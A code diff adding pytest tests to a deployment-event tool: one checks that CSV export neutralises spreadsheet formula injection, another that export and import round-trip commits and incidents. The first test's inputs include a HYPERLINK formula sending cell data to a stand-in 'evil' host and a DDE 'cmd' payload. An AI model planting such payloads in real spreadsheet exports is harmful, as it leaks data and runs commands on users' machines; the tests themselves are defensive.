@@ -121,6 +121,24 @@ def test_export_writes_every_column_of_every_event_in_arrival_order(client, toke
     assert by_name[1]["scm_sha"] == ""
 
 
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, token, db_path, tmp_path):
+    evil = '=HYPERLINK("http://evil/"&A1,"x")'
+    resp = client.post("/deployment-events/", headers=auth(token), json={
+        "product_name": evil, "version": "-2+3", "environment_name": "production", "status": "success",
+        "deployed_by": "@admin", "summary": "+cmd|' /C calc'!A0"})
+    assert resp.status_code == 200, resp.text
+    target = tmp_path / "events.csv"
+    assert run_cli("export", "--format", "csv", "--output", str(target), "--db", str(db_path))[0] == 0
+    [header, row] = list(csv.reader(io.StringIO(target.read_text())))
+    cell = dict(zip(header, row, strict=True))
+    assert (cell["product"], cell["version"], cell["actor"]) == ("'" + evil, "'-2+3", "'@admin")
+    assert cell["summary"] == "'+cmd|' /C calc'!A0"
+    assert cell["environment"] == "production" and cell["seq"] == "1"  # plain cells and numbers untouched
+    # JSON Lines is data, not a spreadsheet: kept exactly, and what import reads back.
+    [line] = run_cli("export", "--db", str(db_path))[1].splitlines()
+    assert json.loads(line)["product"] == evil
+
+
 # -- import ----------------------------------------------------------------------------------
 
 
@@ -146,6 +164,45 @@ def test_import_of_an_export_keeps_ids_times_and_rebuilds_derived_rows(client, t
         everything = f"SELECT * FROM {table} ORDER BY 1, 2"
         assert rows(other, everything) == rows(db_path, everything)
     assert rows(other, "SELECT status, event_count FROM deployments WHERE invoke_id = 'run-1'") == [("completed", 2)]
+
+
+def test_export_then_import_carries_commits_and_incidents_with_their_links(client, token, db_path, tmp_path):
+    deploy(client, token, "1.0", sha="c1", timestamp="2026-06-01T10:00:00Z")
+    first = deploy(client, token, "1.1", sha="c2", timestamp="2026-06-02T10:00:00Z")
+    deploy(client, token, "1.2", timestamp="2026-06-03T10:00:00Z", change_id="CHG-7")
+    resp = client.post("/api/v1/commits", headers=auth(token), json=[
+        {"sha": "c1", "repository": "acme/shop", "committed_at": "2026-05-31T09:00:00Z", "message": "fix",
+         "author": "a"},
+        {"sha": "c2", "committed_at": "2026-06-01T09:00:00Z"}])
+    assert resp.status_code in (200, 201), resp.text
+    [(by_hand,)] = rows(db_path, f"SELECT deployment_id FROM events WHERE id = '{first}'")
+    for body in ({"product": "shop", "title": "slow", "opened_at": "2026-06-02T12:00:00Z", "severity": "sev2",
+                  "resolved_at": "2026-06-02T13:00:00Z", "metadata": {"ticket": "T-1"}},
+                 {"change_id": "CHG-7", "title": "by change", "opened_at": "2026-06-03T11:00:00Z"},
+                 {"product": "shop", "title": "by hand", "opened_at": "2026-06-04T11:00:00Z", "deployment_id": by_hand},
+                 {"product": "cart", "title": "nothing deployed", "environment": "staging"}):
+        resp = client.post("/api/v1/incidents", headers=auth(token), json=body)
+        assert resp.status_code == 201, resp.text
+    export = tmp_path / "all.jsonl"
+    assert run_cli("export", "--output", str(export), "--db", str(db_path))[0] == 0
+    kinds = [json.loads(line)["kind"] for line in export.read_text().splitlines()]
+    assert kinds == ["deployment"] * 3 + ["commit"] * 2 + ["incident"] * 4
+
+    other = tmp_path / "other.db"
+    assert run_cli("import", str(export), "--db", str(other), "--create") == (
+        0, f"Imported 3 events, 2 commits and 4 incidents from {export}; 0 were already stored.\n")
+    assert run_cli("import", str(export), "--db", str(other)) == (
+        0, f"Imported 0 events, 2 commits and 0 incidents from {export}; 7 were already stored.\n")
+    commits = "SELECT repository, sha, authored_at, committed_at, message, author FROM commits ORDER BY sha"
+    assert rows(other, commits) == rows(db_path, commits)
+    # Each incident as it was, linked to the same deployment (named by its event), by the same rule.
+    incidents = ("SELECT i.product, i.product_given, i.environment, i.title, i.severity, i.status, i.opened_at, "
+                 "i.resolved_at, i.change_id, i.metadata, i.created_at, i.link_rule, "
+                 "(SELECT MIN(e.id) FROM events e WHERE e.deployment_id = i.deployment_id) "
+                 "FROM incidents i ORDER BY i.id")
+    assert rows(other, incidents) == rows(db_path, incidents)
+    assert [r[0] for r in rows(other, "SELECT link_rule FROM incidents ORDER BY id")] == [
+        "last_deployment", "change_id", "deployment_id", None]
 
 
 def test_import_of_hand_written_backfill_lines_is_idempotent(make_client, db_path, tmp_path):
